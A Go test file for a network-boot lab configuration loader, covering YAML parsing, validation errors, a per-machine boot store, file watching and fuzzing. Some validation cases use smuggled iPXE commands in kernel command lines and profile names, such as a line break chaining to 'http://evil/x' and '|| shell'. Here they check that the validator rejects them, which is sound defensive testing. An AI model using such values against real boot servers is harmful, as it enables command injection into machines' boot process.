package profile

import (
	"context"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rlgo/redleaf/images/manifest"
)

// artifacts writes a minimal artifacts directory with a manifest.
func artifacts(t testing.TB, dir, name string) {
	t.Helper()
	os.MkdirAll(dir, 0o755)
	for _, f := range []string{"vmlinuz", "initrd.img"} {
		os.WriteFile(filepath.Join(dir, f), []byte(f), 0o644)
	}
	m := &manifest.Manifest{Name: name, Arch: "amd64", Kernel: "vmlinuz", Initrd: "initrd.img", Cmdline: "console=ttyS0", Boot: []string{"kernel", "pxe"}}
	for _, f := range []string{"vmlinuz", "initrd.img"} {
		if err := m.Add(dir, f); err != nil {
			t.Fatal(err)
		}
	}
	if err := m.Write(dir); err != nil {
		t.Fatal(err)
	}
}

const lab = `# a lab
server:
  interface: br0
  http_port: 8081
dhcp:
  mode: full
  pool: 10.0.0.100-10.0.0.199
  dns: [10.0.0.53]
  lease_time: 2h
  relays:
    - subnet: 10.9.0.0/24
      pool: 10.9.0.10-10.9.0.20
default: qemu
profiles:
  qemu:
    artifacts: out/qemu
  install:
    artifacts: out/install
    cmdline: rl.install
    ipxe: ipxe
machines:
  52:54:00:00:00:01:
    profile: install
    once: true
    ip: 10.0.0.50
  52-54-00-00-00-02:
    profile: local
  52:54:00:00:00:03:
    profile: install
    once: true
    then: default
`

func writeLab(t *testing.T, content string) string {
	t.Helper()
	dir := t.TempDir()
	artifacts(t, filepath.Join(dir, "out", "qemu"), "qemu")
	artifacts(t, filepath.Join(dir, "out", "install"), "install")
	artifacts(t, filepath.Join(dir, "out", "bad"), "bad")
	m, _ := manifest.Load(filepath.Join(dir, "out", "bad"))
	m.Cmdline = "console=ttyS0\nshell"
	m.Write(filepath.Join(dir, "out", "bad"))
	path := filepath.Join(dir, "lab.yaml")
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

var (
	m1, _ = net.ParseMAC("52:54:00:00:00:01")
	m2, _ = net.ParseMAC("52:54:00:00:00:02")
	m3, _ = net.ParseMAC("52:54:00:00:00:03")
	m9, _ = net.ParseMAC("52:54:00:00:00:09")
)

func TestLoad(t *testing.T) {
	path := writeLab(t, lab)
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if f.Server.Interface != "br0" || f.Server.HTTPPort != 8081 || !f.Server.TFTP || f.DHCP.Mode != "full" ||
		f.DHCP.PoolStart.String() != "10.0.0.100" || f.DHCP.LeaseTime != 2*time.Hour || len(f.DHCP.Relays) != 1 || len(f.DHCP.DNS) != 1 {
		t.Errorf("server/dhcp: %+v %+v", f.Server, f.DHCP)
	}
	if f.Server.StateDir != filepath.Join(filepath.Dir(path), "netboot-state") {
		t.Errorf("state dir %q", f.Server.StateDir)
	}
	p := f.Profiles["install"]
	if p == nil || p.Manifest == nil || p.Manifest.Name != "install" || p.IPXE != "ipxe" || p.Cmdline != "rl.install" || !filepath.IsAbs(p.Artifacts) {
		t.Errorf("profile %+v", p)
	}
	if f.Profiles["qemu"].IPXE != "snponly" {
		t.Error("ipxe flavour default")
	}
	if m := f.Machines["52:54:00:00:00:02"]; m == nil || m.Profile != Local {
		t.Errorf("MAC with dashes: %+v", f.Machines)
	}
	if m := f.Machines["52:54:00:00:00:01"]; m.IP.String() != "10.0.0.50" || m.Then != Local {
		t.Errorf("machine %+v", m)
	}
}

func TestLoadErrors(t *testing.T) {
	for _, tc := range []struct {
		name, content string
		want          []string
	}{
		{"typo", "server:\n  interfce: br0\n", []string{"lab.yaml:2: server.interfce: unknown key; did you mean \"interface\"?"}},
		{"bad mode", "dhcp:\n  mode: fulll\n", []string{`lab.yaml:2: dhcp.mode: "fulll" is not allowed; did you mean "full"?`}},
		{"bad pool", "dhcp:\n  pool: 10.0.0.9-10.0.0.1\n", []string{"lab.yaml:2: dhcp.pool:", "FIRST-LAST"}},
		{"no manifest", "profiles:\n  x:\n    artifacts: nowhere\n", []string{"lab.yaml:3: profiles.x.artifacts: ", "nowhere does not exist", "rlbuild image"}},
		{"missing artifacts", "profiles:\n  x:\n    cmdline: a\n", []string{"lab.yaml:3: profiles.x.artifacts: missing"}},
		{"unknown profile", "profiles:\n  qemu:\n    artifacts: out/qemu\nmachines:\n  52:54:00:00:00:01:\n    profile: qemo\n", []string{`lab.yaml:6: machines.52:54:00:00:00:01.profile: no profile "qemo"; did you mean "qemu"?`}},
		{"bad mac", "machines:\n  nope:\n    profile: local\n", []string{`lab.yaml:2: machines.nope: "nope" is not a MAC address`}},
		{"dup mac", "machines:\n  52:54:00:00:00:01: {profile: local}\n  52-54-00-00-00-01: {profile: local}\n", []string{"lab.yaml:3:", "listed twice"}},
		{"dup ip", "machines:\n  52:54:00:00:00:01: {ip: 10.0.0.5}\n  52:54:00:00:00:02: {ip: 10.0.0.5}\n", []string{"10.0.0.5 is also reserved"}},
		{"default", "default: nope\n", []string{`lab.yaml:1: default: no profile "nope"`}},
		{"local profile", "profiles:\n  local:\n    artifacts: out/qemu\n", []string{"built-in target"}},
		{"yaml", "server: [\n", []string{"not valid YAML"}},
		{"empty", "", []string{"empty"}},
		{"not a map", "- a\n", []string{"the top level must be a mapping"}},
		{"cmdline line break", "profiles:\n  qemu:\n    artifacts: out/qemu\n    cmdline: \"quiet\\nchain http://evil/x\"\n", []string{"lab.yaml:4: profiles.qemu.cmdline: the kernel command line contains a control character", "one line"}},
		{"cmdline operator", "profiles:\n  qemu:\n    artifacts: out/qemu\n    cmdline: quiet || shell\n", []string{"lab.yaml:4: profiles.qemu.cmdline:", `"||" would chain another iPXE command`}},
		{"profile name line break", "profiles:\n  \"a\\nshell\":\n    artifacts: out/qemu\n", []string{"lab.yaml:2: profiles.", "not a usable profile name"}},
		{"profile name slash", "profiles:\n  a/b:\n    artifacts: out/qemu\n", []string{"lab.yaml:2:", "not a usable profile name"}},
		{"manifest cmdline", "profiles:\n  bad:\n    artifacts: out/bad\n", []string{"lab.yaml:3: profiles.bad.artifacts:", "manifest.json: the kernel command line contains a control character"}},
		{"two errors", "server:\n  http_port: 0\ndhcp:\n  lease_time: 5s\n", []string{"2 problems", "lab.yaml:2: server.http_port", "lab.yaml:4: dhcp.lease_time"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			path := writeLab(t, tc.content)
			_, err := Load(path)
			if err == nil {
				t.Fatal("no error")
			}
			msg := strings.ReplaceAll(err.Error(), path, "lab.yaml")
			for _, w := range tc.want {
				if !strings.Contains(msg, w) {
					t.Errorf("error %q lacks %q", msg, w)
				}
			}
		})
	}
}

func TestStore(t *testing.T) {
	path := writeLab(t, lab)
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	stateDir := t.TempDir()
	s, err := NewStore(f, stateDir)
	if err != nil {
		t.Fatal(err)
	}
	check := func(mac net.HardwareAddr, target, source string) {
		t.Helper()
		if r := s.Resolve(mac); r.Target != target || r.Source != source || !r.Served {
			t.Errorf("%v: %+v, want %s from %s", mac, r, target, source)
		}
	}
	check(m1, "install", "machine")
	check(m2, Local, "machine")
	check(m9, "qemu", "default")
	// Once-only: committing uses it up; then local (m1) or default (m3).
	if r, err := s.Commit(m1); err != nil || r.Target != "install" {
		t.Fatal(r, err)
	}
	check(m1, Local, "machine-then")
	s.Commit(m3)
	check(m3, "qemu", "machine-then")
	// The API overrides; a once-only override falls back after a boot.
	if err := s.SetNext(m1, NextBoot{Target: "qemu", Once: true}); err != nil {
		t.Fatal(err)
	}
	check(m1, "qemu", "api")
	s.Commit(m1)
	check(m1, Local, "machine-then")
	if err := s.SetNext(m2, NextBoot{Target: "install"}); err != nil {
		t.Fatal(err)
	}
	s.Commit(m2)
	check(m2, "install", "api")
	if err := s.SetNext(m2, NextBoot{Target: "nope"}); err == nil || !strings.Contains(err.Error(), `no profile "nope"`) {
		t.Errorf("SetNext unknown: %v", err)
	}
	// The state survives a restart.
	s2, err := NewStore(f, stateDir)
	if err != nil {
		t.Fatal(err)
	}
	if r := s2.Resolve(m2); r.Target != "install" || r.Source != "api" {
		t.Errorf("after restart m2: %+v", r)
	}
	if r := s2.Resolve(m1); r.Target != Local {
		t.Errorf("after restart m1: %+v", r)
	}
	s2.ClearNext(m2)
	if r := s2.Resolve(m2); r.Target != Local || r.Source != "machine" {
		t.Errorf("after clear: %+v", r)
	}
	// Editing the machine's entry arms its once-only boot again.
	f2, err := Parse([]byte(strings.Replace(lab, "    once: true\n    ip:", "    once: true\n    then: default\n    ip:", 1)), path)
	if err != nil {
		t.Fatal(err)
	}
	s2.Replace(f2)
	if r := s2.Resolve(m1); r.Target != "install" {
		t.Errorf("edited entry: %+v", r)
	}
	// deny_unknown.
	f3, _ := Parse([]byte(lab+"deny_unknown: true\n"), path)
	s2.Replace(f3)
	if r := s2.Resolve(m9); r.Served {
		t.Errorf("unknown machine served: %+v", r)
	}
	if m, ok := s2.ReservedFor(f3.Machines["52:54:00:00:00:01"].IP); !ok || m.MAC.String() != m1.String() {
		t.Errorf("ReservedFor: %v %v", m, ok)
	}
	b, _ := os.ReadFile(filepath.Join(stateDir, "boots.json"))
	if !json.Valid(b) {
		t.Errorf("state file: %s", b)
	}
}

func TestWatch(t *testing.T) {
	path := writeLab(t, lab)
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	got := make(chan any, 10)
	go Watch(ctx, path, f, 20*time.Millisecond, func(f *File, err error) {
		if err != nil {
			got <- err
		} else {
			got <- f
		}
	})
	wait := func() any {
		select {
		case v := <-got:
			return v
		case <-time.After(5 * time.Second):
			t.Fatal("no reload")
		}
		return nil
	}
	// Edits replace the file, as editors do, so that no poll sees half
	// of one.
	edit := func(content string) {
		os.WriteFile(path+".tmp", []byte(content), 0o644)
		if err := os.Rename(path+".tmp", path); err != nil {
			t.Fatal(err)
		}
	}
	time.Sleep(50 * time.Millisecond)
	edit(strings.Replace(lab, "default: qemu", "default: install", 1))
	if f, ok := wait().(*File); !ok || f.Default != "install" {
		t.Errorf("reload: %v", f)
	}
	edit("default: nope\n")
	if err, ok := wait().(error); !ok || !strings.Contains(err.Error(), "nope") {
		t.Errorf("bad reload: %v", err)
	}
	// A rebuilt image (new manifest) counts as a change.
	edit(lab)
	wait()
	time.Sleep(20 * time.Millisecond)
	artifacts(t, filepath.Join(filepath.Dir(path), "out", "qemu"), "qemu2")
	os.Chtimes(filepath.Join(filepath.Dir(path), "out", "qemu", "manifest.json"), time.Now().Add(time.Hour), time.Now().Add(time.Hour))
	if f, ok := wait().(*File); !ok || f.Profiles["qemu"].Manifest.Name != "qemu2" {
		t.Errorf("manifest reload: %v", f)
	}
	select {
	case v := <-got:
		t.Errorf("spurious reload: %v", v)
	case <-time.After(100 * time.Millisecond):
	}
}

// FuzzParse checks that no file makes the parser panic and that every
// error names the file.
func FuzzParse(f *testing.F) {
	f.Add([]byte(lab))
	f.Add([]byte("machines:\n  52:54:00:00:00:01: {ip: 10.0.0.5, once: yes}\n"))
	f.Add([]byte("dhcp: {relays: [{subnet: 1.2.3.0/24, pool: 1.2.3.4-1.2.3.5}]}\n"))
	f.Add([]byte("profiles: {a: [1]}\n&x a: *x\n"))
	dir := f.TempDir()
	artifacts(f, filepath.Join(dir, "out", "qemu"), "qemu")
	path := filepath.Join(dir, "lab.yaml")
	f.Fuzz(func(t *testing.T, b []byte) {
		file, err := Parse(b, path)
		if err != nil {
			if !strings.Contains(err.Error(), path) {
				t.Fatalf("error without the file: %v", err)
			}
			return
		}
		for mac, m := range file.Machines {
			if m.MAC.String() != mac {
				t.Fatalf("machine key %q for %v", mac, m.MAC)
			}
		}
	})
}

func TestExample(t *testing.T) {
	dir := t.TempDir()
	artifacts(t, filepath.Join(dir, "out", "qemu"), "qemu")
	os.MkdirAll(filepath.Join(dir, "configs"), 0o755)
	path := filepath.Join(dir, "configs", "lab.yaml")
	os.WriteFile(path, []byte(Example), 0o644)
	f, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if f.Server.NoIPv6RA || f.DHCP.DomainName != "lab.example" || len(f.DHCP.Relays) != 1 || f.Machines["52:54:00:12:34:56"].Hostname != "node1" {
		t.Errorf("%+v", f)
	}
}
